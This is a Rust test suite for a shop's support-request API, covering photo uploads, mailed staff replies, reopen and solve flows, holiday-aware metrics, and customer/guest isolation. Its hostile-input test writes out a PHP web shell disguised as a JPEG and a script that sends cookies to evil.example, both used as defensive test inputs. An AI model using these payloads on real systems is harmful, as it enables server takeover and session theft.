//! Support requests end to end: opened with a photo, answered (the customer gets the
//! `support_reply` message over a real SMTP server), reopened by the customer's reply,
//! solved; metrics on a constructed timeline across a weekend and a holiday; isolation
//! between customers and between guests; hostile input refused with nothing stored.

use std::time::Duration;

use serde_json::{Value, json};

use crate::crash::free_port;
use crate::helpers::*;
use crate::notify::{Sink, header};

const PNG: &[u8] =
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00";

/// The registered customer 42's Korean order as order `id` (line items 201-203).
fn order(id: u64) -> Vec<u8> {
    let mut order: Value = serde_json::from_slice(&fixture("orders/registered-krw.json")).unwrap();
    order["id"] = id.into();
    order["number"] = id.to_string().into();
    order["meta_data"]
        .as_array_mut()
        .unwrap()
        .retain(|m| m["key"] != "_wc_shipment_tracking_items");
    serde_json::to_vec(&order).unwrap()
}

/// The guest fixture (order 1002, line item 611) as order `id` with its own key and email.
fn guest_order(id: u64) -> (Vec<u8>, String) {
    let mut order: Value = serde_json::from_slice(&fixture("orders/guest-usd.json")).unwrap();
    order["id"] = id.into();
    order["number"] = id.to_string().into();
    order["order_key"] = format!("wc_order_guest{id}").into();
    order["billing"]["email"] = format!("guest{id}@example.net").into();
    let query = format!("key=wc_order_guest{id}&email=guest{id}@example.net");
    (serde_json::to_vec(&order).unwrap(), query)
}

async fn deliver_ok(app: &TestApp, body: &[u8]) {
    let (status, answer) = app.deliver("order.created", body).await;
    assert_eq!(status, 200, "{answer}");
}

fn form(request: &Value, photos: &[(&str, Vec<u8>)]) -> reqwest::multipart::Form {
    let mut form = reqwest::multipart::Form::new().part(
        "request",
        reqwest::multipart::Part::text(request.to_string())
            .mime_str("application/json")
            .unwrap(),
    );
    for (name, bytes) in photos {
        form = form.part(
            "photos",
            reqwest::multipart::Part::bytes(bytes.clone())
                .file_name(name.to_string())
                .mime_str("image/jpeg")
                .unwrap(),
        );
    }
    form
}

async fn post_form(app: &TestApp, path: &str, form: reqwest::multipart::Form) -> (u16, Value) {
    let response = app
        .client
        .post(app.url(path))
        .bearer_auth(API_KEY)
        .multipart(form)
        .send()
        .await
        .unwrap();
    read(response).await
}

fn requests_path(customer: u64, order: u64) -> String {
    format!("/api/v1/customers/{customer}/orders/{order}/requests")
}

fn stored(app: &TestApp) -> (i64, i64, i64) {
    (
        app.count("SELECT COUNT(*) FROM support_requests"),
        app.count("SELECT COUNT(*) FROM support_messages"),
        app.count("SELECT COUNT(*) FROM support_photos"),
    )
}

/// Files under the data dir's `support/` folder (staging included).
fn support_files(app: &TestApp) -> usize {
    fn walk(dir: &std::path::Path) -> usize {
        std::fs::read_dir(dir).map_or(0, |entries| {
            entries
                .map(|e| e.unwrap().path())
                .map(|p| if p.is_dir() { walk(&p) } else { 1 })
                .sum()
        })
    }
    walk(&app.dir.path().join("data").join("support"))
}

fn notify_toml(port: u16) -> String {
    format!(
        "timezone = \"UTC\"\n\
         [notify]\n\
         channel = \"smtp\"\n\
         smtp_url = \"smtp://127.0.0.1:{port}\"\n\
         mail_from = \"Nimbus Test Shop <shop@nimbus.example>\"\n\
         quiet_hours = \"off\"\n"
    )
}

fn support_mails(sink: &Sink) -> Vec<String> {
    sink.messages()
        .into_iter()
        .filter(|m| header(m, "X-Aftercare-Message").as_deref() == Some("support_reply"))
        .collect()
}

/// The part of a raw message after its `content_type` header, soft line breaks joined.
fn part(message: &str, content_type: &str) -> String {
    let unfolded = message.replace("=\r\n", "");
    let Some(part) = unfolded.split(content_type).nth(1) else {
        return String::new();
    };
    let body = part.split_once("\r\n\r\n").map_or("", |(_, body)| body);
    body.split("\r\n--").next().unwrap_or(body).to_owned()
}

#[tokio::test]
async fn a_request_with_a_photo_is_answered_by_mail_reopened_by_the_customer_and_solved() {
    let Some(sink) = Sink::start(free_port(), false) else {
        return;
    };
    let app = TestApp::spawn_with(&notify_toml(sink.port)).await;
    deliver_ok(&app, &order(3001)).await;
    app.run_jobs_until_idle().await;
    let before = sink.messages().len();

    // The customer opens a request about an item, with a photo.
    let opening = json!({"topic": "damaged_or_wrong_item", "line_item_id": 202,
                         "body": "The hoodie arrived torn at the seam."});
    let (status, created) = post_form(
        &app,
        &requests_path(42, 3001),
        form(&opening, &[("seam.png", PNG.to_vec())]),
    )
    .await;
    assert_eq!(status, 201, "{created}");
    assert_eq!(created["status"], "open");
    assert_eq!(created["topic"], "damaged_or_wrong_item");
    assert_eq!(created["item"]["line_item_id"], 202);
    assert_eq!(created["item"]["product_id"], 402);
    let id = created["id"].as_i64().unwrap();
    let first = &created["messages"][0];
    assert_eq!(first["from"], "customer");
    assert_eq!(first["body"], "The hoodie arrived torn at the seam.");
    assert_eq!(first["photos"][0]["content_type"], "image/png");
    assert!(
        first["photos"][0].get("url").is_none(),
        "customers get no staff URL"
    );

    // Staff see it in the inbox with the order's facts beside the thread, and the photo.
    let (status, inbox) = app
        .get("/api/v1/requests?status=open&topic=damaged_or_wrong_item")
        .await;
    assert_eq!(status, 200, "{inbox}");
    assert_eq!(inbox["total"], 1);
    assert_eq!(inbox["requests"][0]["id"], id);
    let (status, detail) = app.get(&format!("/api/v1/requests/{id}")).await;
    assert_eq!(status, 200, "{detail}");
    assert_eq!(detail["order"]["id"], 3001);
    assert!(detail["order"]["shipments"].is_array());
    assert!(detail["order"]["returns"].is_array());
    assert!(detail["order"].get("invoice").is_some());
    let url = detail["request"]["messages"][0]["photos"][0]["url"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        url.ends_with(&format!("/api/v1/requests/{id}/photos/1")),
        "{url}"
    );
    let photo = app
        .client
        .get(&url)
        .bearer_auth(API_KEY)
        .send()
        .await
        .unwrap();
    assert_eq!(photo.status(), 200);
    assert_eq!(photo.headers()["content-type"], "image/png");
    assert_eq!(photo.headers()["x-content-type-options"], "nosniff");
    assert_eq!(&photo.bytes().await.unwrap()[..], PNG);

    // An internal note: staff only, and nobody is mailed.
    let (status, noted) = app
        .post_json(
            &format!("/api/v1/requests/{id}/replies"),
            &json!({"body": "Check the batch, third this week.", "internal": true, "author": "Jane"}),
        )
        .await;
    assert_eq!(status, 201, "{noted}");
    assert_eq!(noted["messages"][1]["from"], "note");
    app.run_jobs_until_idle().await;
    assert_eq!(support_mails(&sink).len(), 0);

    // A public reply (with markup in it) reaches the customer as `support_reply`.
    let answer = "Sorry about that! <script>alert('x')</script>\nA new one ships today.";
    let (status, replied) = app
        .post_json(
            &format!("/api/v1/requests/{id}/replies"),
            &json!({"body": answer, "internal": false, "author": "Jane"}),
        )
        .await;
    assert_eq!(status, 201, "{replied}");
    assert_eq!(replied["status"], "open", "a reply does not solve");
    app.run_jobs_until_idle().await;
    sink.wait_for(before + 1).await;
    let mails = support_mails(&sink);
    assert_eq!(mails.len(), 1);
    let mail = &mails[0];
    assert!(
        header(mail, "To")
            .unwrap()
            .contains("minji.kim@example.com")
    );
    assert_eq!(header(mail, "X-Aftercare-Order").as_deref(), Some("3001"));
    assert!(
        header(mail, "List-Unsubscribe").is_none(),
        "an answer is not a status update"
    );
    let text = part(mail, "Content-Type: text/plain");
    assert!(text.contains("> A new one ships today."), "{text}");
    assert!(text.contains("Jane"), "{text}");
    let html = part(mail, "Content-Type: text/html");
    assert!(html.contains("A new one ships today."), "{html}");
    assert!(
        !html.contains("<script>"),
        "the HTML part escapes the reply: {html}"
    );
    assert!(
        html.contains("script&#62;") || html.contains("script&gt;"),
        "{html}"
    );
    assert!(!mail.contains("Check the batch"), "notes never leave");

    // The customer sees the thread without the note, on the order and in their list.
    let (_, view) = app.get("/api/v1/customers/42/orders/3001").await;
    let thread = &view["requests"][0]["messages"];
    let froms: Vec<&str> = thread
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["from"].as_str().unwrap())
        .collect();
    assert_eq!(froms, ["customer", "staff"]);
    assert_eq!(thread[1]["body"], answer, "stored as written");
    assert!(view["requests"][0].get("assignee").is_none());
    assert!(
        view["messages"]
            .as_array()
            .unwrap()
            .iter()
            .any(|m| m["type"] == "support_reply" && m["state"] == "sent"),
        "{}",
        view["messages"]
    );
    let (_, mine) = app.get("/api/v1/customers/42/requests").await;
    assert_eq!(mine["requests"].as_array().unwrap().len(), 1);
    assert_eq!(mine["requests"][0]["messages"].as_array().unwrap().len(), 2);

    // Assigned, solved; solving twice is a conflict.
    let (status, assigned) = app
        .put_json(
            &format!("/api/v1/requests/{id}/assignee"),
            &json!({"assignee": "jane", "by": "Jane"}),
        )
        .await;
    assert_eq!(status, 200, "{assigned}");
    assert_eq!(assigned["assignee"], "jane");
    assert!(
        assigned.get("waiting_since").is_none(),
        "answered: nobody waits"
    );
    let (_, mine) = app.get("/api/v1/requests?assignee=jane").await;
    assert_eq!(mine["total"], 1);
    let (_, nobody) = app.get("/api/v1/requests?assignee=none").await;
    assert_eq!(nobody["total"], 0);
    // Opened a moment ago: younger than an hour, not older.
    let (_, young) = app.get("/api/v1/requests?newer_than_hours=1").await;
    let (_, old) = app.get("/api/v1/requests?older_than_hours=1").await;
    assert_eq!(
        (young["total"].as_u64(), old["total"].as_u64()),
        (Some(1), Some(0))
    );
    let transitions = format!("/api/v1/requests/{id}/transitions");
    let (status, solved) = app
        .post_json(&transitions, &json!({"to": "solved", "by": "Jane"}))
        .await;
    assert_eq!(status, 200, "{solved}");
    assert_eq!(solved["status"], "solved");
    let (status, again) = app.post_json(&transitions, &json!({"to": "solved"})).await;
    assert_eq!(status, 409, "{again}");
    assert_error(&again, "invalid_transition");
    let planned = "SELECT COUNT(*) FROM surveys WHERE source = 'request' AND state = 'planned'";
    assert_eq!(app.count(planned), 1, "solved: its CSAT survey is planned");

    // The customer writes back: the request is open again.
    let (status, reopened) = app
        .post_json(
            &format!("/api/v1/customers/42/requests/{id}/messages"),
            &json!({"body": "The new one has the same tear."}),
        )
        .await;
    assert_eq!(status, 201, "{reopened}");
    assert_eq!(reopened["status"], "open");
    assert_eq!(app.count(planned), 0, "reopened before it went: no survey");
    let (_, detail) = app.get(&format!("/api/v1/requests/{id}")).await;
    let kinds: Vec<&str> = detail["request"]["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["opened", "assigned", "solved", "reopened"]);
    assert_eq!(detail["request"]["history"][3]["by"], "customer");
    assert_eq!(
        detail["request"]["waiting_since"], detail["request"]["messages"][3]["created_at"],
        "the customer waits since their reply"
    );

    // A second reply is a second message, once, however often the jobs run; then solved.
    let (status, _) = app
        .post_json(
            &format!("/api/v1/requests/{id}/replies"),
            &json!({"body": "Refunding you in full.", "author": "Jane"}),
        )
        .await;
    assert_eq!(status, 201);
    app.run_jobs_until_idle().await;
    sink.wait_for(before + 2).await;
    app.run_jobs_until_idle().await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(support_mails(&sink).len(), 2);
    assert_eq!(
        app.count("SELECT COUNT(*) FROM messages WHERE type = 'support_reply'"),
        2
    );
    let (status, solved) = app.post_json(&transitions, &json!({"to": "solved"})).await;
    assert_eq!(status, 200, "{solved}");
    let (status, reopen) = app.post_json(&transitions, &json!({"to": "open"})).await;
    assert_eq!((status, reopen["status"].as_str()), (200, Some("open")));
    let (status, bad) = app.post_json(&transitions, &json!({"to": "closed"})).await;
    assert_eq!(status, 422, "{bad}");
    app.stop().await;
}

/// Sets the newest row's time in `table` (what the API wrote a moment ago) to `at`.
fn stamp_newest(app: &TestApp, table: &str, column: &str, at: &str) {
    let c = rusqlite::Connection::open(app.db_path()).unwrap();
    c.busy_timeout(Duration::from_secs(10)).unwrap();
    c.execute(
        &format!("UPDATE {table} SET {column} = ?1 WHERE id = (SELECT MAX(id) FROM {table})"),
        [at],
    )
    .unwrap();
}

/// Opens a request on order 3101 at `at` (UTC), as if it had happened then.
async fn open_at(app: &TestApp, topic: &str, item: Option<u64>, at: &str) -> i64 {
    let mut body = json!({"topic": topic, "body": "Where is it?"});
    if let Some(item) = item {
        body["line_item_id"] = item.into();
    }
    let (status, created) = app.post_json(&requests_path(42, 3101), &body).await;
    assert_eq!(status, 201, "{created}");
    stamp_newest(app, "support_messages", "created_at", at);
    stamp_newest(app, "support_events", "at", at);
    stamp_newest(app, "support_requests", "created_at", at);
    created["id"].as_i64().unwrap()
}

async fn reply_at(app: &TestApp, id: i64, internal: bool, at: &str) {
    let (status, body) = app
        .post_json(
            &format!("/api/v1/requests/{id}/replies"),
            &json!({"body": "On it.", "internal": internal, "author": "Jane"}),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    stamp_newest(app, "support_messages", "created_at", at);
}

async fn customer_at(app: &TestApp, id: i64, at: &str) {
    let (status, body) = app
        .post_json(
            &format!("/api/v1/customers/42/requests/{id}/messages"),
            &json!({"body": "Still nothing."}),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    stamp_newest(app, "support_messages", "created_at", at);
    stamp_newest(app, "support_events", "at", at);
}

async fn solve_at(app: &TestApp, id: i64, at: &str) {
    let (status, body) = app
        .post_json(
            &format!("/api/v1/requests/{id}/transitions"),
            &json!({"to": "solved"}),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    stamp_newest(app, "support_events", "at", at);
}

#[tokio::test]
async fn metrics_are_exact_on_a_timeline_across_a_weekend_and_a_holiday() {
    // Seoul, Saturday and Sunday off, Christmas (Friday 25 December 2026) a holiday,
    // support from 09:00 to 18:00. Times below are UTC (KST - 9 h).
    let app = TestApp::spawn_with(
        "timezone = \"Asia/Seoul\"\n[tracking]\nholidays = [\"2026-12-25\"]\n\
         [support]\nhours = \"09:00-18:00\"\n",
    )
    .await;
    deliver_ok(&app, &order(3101)).await;

    // A: Thursday 24 Dec 17:00 KST; answered Monday 28 Dec 10:00; solved Monday 11:30.
    // First response 89 h wall, 2 h business (Thu 17-18, Mon 9-10); resolution 90.5 h
    // wall, 3.5 h business.
    let a = open_at(
        &app,
        "where_is_my_order",
        Some(201),
        "2026-12-24T08:00:00.000Z",
    )
    .await;
    reply_at(&app, a, false, "2026-12-28T01:00:00.000Z").await;
    solve_at(&app, a, "2026-12-28T02:30:00.000Z").await;
    // B: Tuesday 22 Dec 10:00 KST; a note at 10:05 (not a response), answered 10:30;
    // solved 16:00, reopened by the customer Wednesday 09:00, solved again Wednesday 12:00.
    // First response 30 min both ways; resolution to the last solve: 26 h wall, 11 h
    // business (Tue 10-18, Wed 9-12).
    let b = open_at(&app, "how_to_use", Some(201), "2026-12-22T01:00:00.000Z").await;
    reply_at(&app, b, true, "2026-12-22T01:05:00.000Z").await;
    reply_at(&app, b, false, "2026-12-22T01:30:00.000Z").await;
    solve_at(&app, b, "2026-12-22T07:00:00.000Z").await;
    customer_at(&app, b, "2026-12-23T00:00:00.000Z").await;
    solve_at(&app, b, "2026-12-23T03:00:00.000Z").await;
    // C: Saturday 26 Dec 11:00 KST, answered 14:00 the same Saturday: 3 h wall, no
    // business time. Still open: no resolution.
    let c = open_at(&app, "where_is_my_order", None, "2026-12-26T02:00:00.000Z").await;
    reply_at(&app, c, false, "2026-12-26T05:00:00.000Z").await;
    // D: November, outside the range: counts nowhere.
    let d = open_at(
        &app,
        "invoice_and_billing",
        Some(203),
        "2026-11-10T01:00:00.000Z",
    )
    .await;
    reply_at(&app, d, false, "2026-11-10T02:00:00.000Z").await;
    solve_at(&app, d, "2026-11-10T03:00:00.000Z").await;

    let (status, m) = app
        .get("/api/v1/support/metrics?from=2026-12-01&to=2026-12-31")
        .await;
    assert_eq!(status, 200, "{m}");
    assert_eq!(m["from"], "2026-11-30T15:00:00Z", "days start in Seoul");
    assert_eq!(m["to"], "2026-12-31T15:00:00Z");
    assert_eq!(m["time_zone"], "Asia/Seoul");
    // First responses, sorted: wall [1800, 10800, 320400], business [0, 1800, 7200].
    // Nearest rank, n = 3: median rank 2, P90 rank ⌈2.7⌉ = 3.
    assert_eq!(
        m["first_response"],
        json!({"median_seconds": 10800, "p90_seconds": 320400,
               "median_business_seconds": 1800, "p90_business_seconds": 7200, "count": 3})
    );
    // Resolutions: wall [93600, 325800], business [12600, 39600]; n = 2: median rank 1,
    // P90 rank ⌈1.8⌉ = 2.
    assert_eq!(
        m["resolution"],
        json!({"median_seconds": 93600, "p90_seconds": 325800,
               "median_business_seconds": 12600, "p90_business_seconds": 39600, "count": 2})
    );
    assert_eq!(m["volume"]["total"], 3);
    assert_eq!(
        m["volume"]["by_day"],
        json!([{"date": "2026-12-22", "count": 1}, {"date": "2026-12-24", "count": 1},
               {"date": "2026-12-26", "count": 1}])
    );
    assert_eq!(
        m["volume"]["by_topic"],
        json!([{"topic": "where_is_my_order", "count": 2}, {"topic": "how_to_use", "count": 1}])
    );
    assert_eq!(
        m["volume"]["by_product"],
        json!([{"product_id": 311, "name": "Nimbus Wireless Mouse", "count": 2}])
    );

    // Nothing was opened ten years ago; three of the four are solved.
    let (_, old) = app.get("/api/v1/requests?older_than_hours=87600").await;
    assert_eq!(old["total"], 0);
    let (_, solved) = app.get("/api/v1/requests?status=solved&per_page=2").await;
    assert_eq!(
        (
            solved["total"].as_u64(),
            solved["requests"].as_array().unwrap().len()
        ),
        (Some(3), 2)
    );

    // A bad range is refused.
    for query in [
        "from=2026-12-31&to=2026-12-01",
        "from=yesterday",
        "from=2024-01-01&to=2026-01-01",
    ] {
        let (status, body) = app.get(&format!("/api/v1/support/metrics?{query}")).await;
        assert_eq!(status, 422, "{query}: {body}");
        assert_error(&body, "validation_failed");
    }
    app.stop().await;
}

#[tokio::test]
async fn customers_and_guests_see_only_their_own_requests() {
    let app = TestApp::spawn().await;
    deliver_ok(&app, &customer_order(3201, 42, "2026-11-20T10:00:00")).await;
    deliver_ok(&app, &customer_order(3202, 43, "2026-11-20T10:00:00")).await;
    let (g1, q1) = guest_order(3203);
    let (g2, q2) = guest_order(3204);
    deliver_ok(&app, &g1).await;
    deliver_ok(&app, &g2).await;

    let ask = json!({"topic": "something_else", "body": "Hello"});
    let (status, mine) = app.post_json(&requests_path(42, 3201), &ask).await;
    assert_eq!(status, 201, "{mine}");
    let mine = mine["id"].as_i64().unwrap();
    let (status, guest) = app
        .post_json(&format!("/api/v1/guest/orders/3203/requests?{q1}"), &ask)
        .await;
    assert_eq!(status, 201, "{guest}");
    let guest = guest["id"].as_i64().unwrap();
    let before = stored(&app);

    // Customer 43 on 42's order: the same 404 as an order that does not exist.
    let (s1, other) = app.post_json(&requests_path(43, 3201), &ask).await;
    let (s2, missing) = app.post_json(&requests_path(43, 9999), &ask).await;
    assert_eq!((s1, s2), (404, 404));
    assert_eq!(other, missing);
    assert_error(&other, "order_not_found");
    // Customer 0 is nobody; a guest order is nobody's registered order either.
    let (status, _) = app.post_json(&requests_path(0, 3203), &ask).await;
    assert_eq!(status, 404);
    let (status, _) = app.post_json(&requests_path(42, 3203), &ask).await;
    assert_eq!(status, 404);
    // Nor does 43 see or answer 42's request.
    let (_, list) = app.get("/api/v1/customers/43/requests").await;
    assert_eq!(list["requests"], json!([]));
    let (status, body) = app
        .get(&format!("/api/v1/customers/43/requests/{mine}"))
        .await;
    assert_eq!(status, 404);
    assert_error(&body, "request_not_found");
    let (status, _) = app
        .post_json(
            &format!("/api/v1/customers/43/requests/{mine}/messages"),
            &json!({"body": "mine now"}),
        )
        .await;
    assert_eq!(status, 404);
    let (status, _) = app
        .post_json(
            &format!("/api/v1/customers/42/requests/{guest}/messages"),
            &json!({"body": "mine now"}),
        )
        .await;
    assert_eq!(status, 404, "a guest's request is no customer's");
    let (_, view) = app.get("/api/v1/customers/43/orders/3202").await;
    assert_eq!(view["requests"], json!([]));

    // Guest 2 proves their own order but cannot reach guest 1's request through it...
    let (status, _) = app
        .post_json(
            &format!("/api/v1/guest/orders/3204/requests/{guest}/messages?{q2}"),
            &json!({"body": "hijack"}),
        )
        .await;
    assert_eq!(status, 404);
    // ...nor guest 1's order with their own key and email.
    let (status, body) = app
        .post_json(&format!("/api/v1/guest/orders/3203/requests?{q2}"), &ask)
        .await;
    assert_eq!(status, 404);
    assert_error(&body, "order_not_found");
    let (status, _) = app
        .get(&format!("/api/v1/guest/orders/3203/requests?{q2}"))
        .await;
    assert_eq!(status, 404);
    let (_, theirs) = app
        .get(&format!("/api/v1/guest/orders/3204/requests?{q2}"))
        .await;
    assert_eq!(theirs["requests"], json!([]));
    assert_eq!(stored(&app), before, "nothing was written by any of them");

    // Guest 1 follows and answers their own request; the guest order view shows it.
    let (status, answered) = app
        .post_json(
            &format!("/api/v1/guest/orders/3203/requests/{guest}/messages?{q1}"),
            &json!({"body": "Any news?"}),
        )
        .await;
    assert_eq!(status, 201, "{answered}");
    let (_, view) = app.get(&format!("/api/v1/guest/orders/3203?{q1}")).await;
    assert_eq!(view["requests"][0]["id"], guest);
    assert_eq!(view["requests"][0]["messages"].as_array().unwrap().len(), 2);

    // An order moved to the trash takes its requests out of the customer's sight.
    let (status, _) = app.deliver("order.deleted", br#"{"id":3201}"#).await;
    assert_eq!(status, 200);
    let (_, list) = app.get("/api/v1/customers/42/requests").await;
    assert_eq!(list["requests"], json!([]));
    let (status, _) = app
        .get(&format!("/api/v1/customers/42/requests/{mine}"))
        .await;
    assert_eq!(status, 404);
    app.stop().await;
}

#[tokio::test]
async fn hostile_input_gets_a_clear_4xx_and_stores_nothing() {
    let app = TestApp::spawn().await;
    deliver_ok(&app, &order(3301)).await;
    let path = requests_path(42, 3301);
    let fields = |body: &Value| -> Vec<String> {
        body["error"]["fields"]
            .as_array()
            .map(|f| {
                f.iter()
                    .map(|f| f["field"].as_str().unwrap().to_owned())
                    .collect()
            })
            .unwrap_or_default()
    };

    let cases = [
        (json!({"topic": "refund_me_now", "body": "x"}), "topic"),
        (json!({"topic": "how_to_use", "body": "   \n  "}), "body"),
        (
            json!({"topic": "how_to_use", "body": "x".repeat(5001)}),
            "body",
        ),
        (json!({"topic": "how_to_use", "body": "a\u{0}b"}), "body"),
        (
            json!({"topic": "how_to_use", "body": "x", "line_item_id": 999}),
            "line_item_id",
        ),
    ];
    for (request, field) in &cases {
        let (status, body) = app.post_json(&path, request).await;
        assert_eq!(status, 422, "{request}: {body}");
        assert_error(&body, "validation_failed");
        assert_eq!(fields(&body), [*field], "{body}");
    }
    // A field the API does not know, and a topic of the wrong type.
    let (status, body) = app
        .post_json(
            &path,
            &json!({"topic": "how_to_use", "body": "x", "priority": "urgent"}),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    assert_error(&body, "unknown_field");

    // Photos: a PHP script named .jpg, an oversized image, four photos, a whole body
    // over the limit.
    let ask = json!({"topic": "damaged_or_wrong_item", "body": "See photo"});
    let php = b"<?php system($_GET['c']); ?>".to_vec();
    let (status, body) = post_form(&app, &path, form(&ask, &[("photo.jpg", php)])).await;
    assert_eq!(
        (status, fields(&body)),
        (422, vec!["photos[0]".to_owned()]),
        "{body}"
    );
    let mut big = PNG.to_vec();
    big.resize(5 * 1024 * 1024 + 1, 0);
    let (status, body) = post_form(&app, &path, form(&ask, &[("big.png", big)])).await;
    assert_eq!(status, 422, "{body}");
    assert!(
        body["error"]["fields"][0]["message"]
            .as_str()
            .unwrap()
            .contains("5 MB")
    );
    let four: Vec<(&str, Vec<u8>)> = (0..4).map(|_| ("p.png", PNG.to_vec())).collect();
    let (status, body) = post_form(&app, &path, form(&ask, &four)).await;
    assert_eq!(
        (status, fields(&body)),
        (422, vec!["photos".to_owned()]),
        "{body}"
    );
    let mut huge = PNG.to_vec();
    huge.resize(17 * 1024 * 1024, 0);
    let (status, body) = post_form(&app, &path, form(&ask, &[("huge.png", huge)])).await;
    assert_eq!(status, 413, "{body}");
    assert_error(&body, "payload_too_large");
    // A form without the request part.
    let bare = reqwest::multipart::Form::new()
        .part("photos", reqwest::multipart::Part::bytes(PNG.to_vec()));
    let (status, body) = post_form(&app, &path, bare).await;
    assert_eq!(status, 422, "{body}");

    assert_eq!(stored(&app), (0, 0, 0));
    assert_eq!(support_files(&app), 0, "no photo left behind");

    // Markup is not refused: it is stored as text, exactly as written.
    let script = "<script>document.location='https://evil.example/?c='+document.cookie</script>";
    let (status, created) = app
        .post_json(&path, &json!({"topic": "something_else", "body": script}))
        .await;
    assert_eq!(status, 201, "{created}");
    assert_eq!(created["messages"][0]["body"], script);
    let id = created["id"].as_i64().unwrap();

    // Staff input is checked the same way.
    let replies = format!("/api/v1/requests/{id}/replies");
    for (request, field) in [
        (json!({"body": "", "author": "Jane"}), "body"),
        (json!({"body": "Hi", "author": "  "}), "author"),
        (json!({"body": "x".repeat(5001), "author": "Jane"}), "body"),
    ] {
        let (status, body) = app.post_json(&replies, &request).await;
        assert_eq!(status, 422, "{request}: {body}");
        assert_eq!(fields(&body), [field], "{body}");
    }
    let (status, _) = app.post_json(&replies, &json!({"body": "Hi"})).await;
    assert_eq!(status, 422, "the author is required");
    let (status, body) = app.get("/api/v1/requests?topic=refunds").await;
    assert_eq!(status, 400, "{body}");
    assert_error(&body, "invalid_query");
    let (status, body) = app.get("/api/v1/requests/999999").await;
    assert_eq!(status, 404);
    assert_error(&body, "request_not_found");
    assert_eq!(stored(&app), (1, 1, 0));
    app.stop().await;
}

#[tokio::test]
async fn an_answer_about_a_cancelled_order_still_reaches_the_customer() {
    // The default channel (the plugin pulls its messages): the decision is what matters. An
    // event endpoint (where nobody listens) shows what is published for it.
    let app = TestApp::spawn_with(&format!(
        "[[events.stores.default.endpoints]]\nurl = \"http://127.0.0.1:{}/hook\"\n\
         secret = \"whsec_AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE=\"\n",
        free_port()
    ))
    .await;
    let mut cancelled: Value = serde_json::from_slice(&order(3401)).unwrap();
    cancelled["status"] = "cancelled".into();
    deliver_ok(&app, &serde_json::to_vec(&cancelled).unwrap()).await;
    let (status, created) = app
        .post_json(
            &requests_path(42, 3401),
            &json!({"topic": "invoice_and_billing", "body": "Was I charged?"}),
        )
        .await;
    assert_eq!(status, 201, "{created}");
    let id = created["id"].as_i64().unwrap();
    let (status, _) = app
        .post_json(
            &format!("/api/v1/requests/{id}/replies"),
            &json!({"body": "No, the payment was voided.", "author": "Jane"}),
        )
        .await;
    assert_eq!(status, 201);
    app.run_jobs_until_idle().await;
    let (_, view) = app.get("/api/v1/customers/42/orders/3401").await;
    let replies: Vec<&Value> = view["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["type"] == "support_reply")
        .collect();
    assert_eq!(replies.len(), 1, "{}", view["messages"]);
    assert_eq!(replies[0]["state"], "pending", "{}", replies[0]);
    // ...and it is published as a signed `support_reply` event carrying the answer.
    let body: String = app
        .db()
        .query_row(
            "SELECT body FROM event_deliveries WHERE type = 'support_reply'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    let event: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(event["type"], "support_reply");
    assert_eq!(event["data"]["support"]["id"], format!("req_{id}"));
    assert_eq!(
        event["data"]["support"]["reply"]["body"],
        "No, the payment was voided."
    );
    // The staff preview shows that answer too.
    let (status, preview) = app
        .get("/api/v1/orders/3401/messages/preview?type=support_reply&lang=ko")
        .await;
    assert_eq!(status, 200, "{preview}");
    assert!(
        preview["text"]
            .as_str()
            .unwrap()
            .contains("> No, the payment was voided."),
        "{preview}"
    );
    assert!(
        preview["subject"]
            .as_str()
            .unwrap()
            .contains("문의에 대한 답변")
    );
    app.stop().await;
}
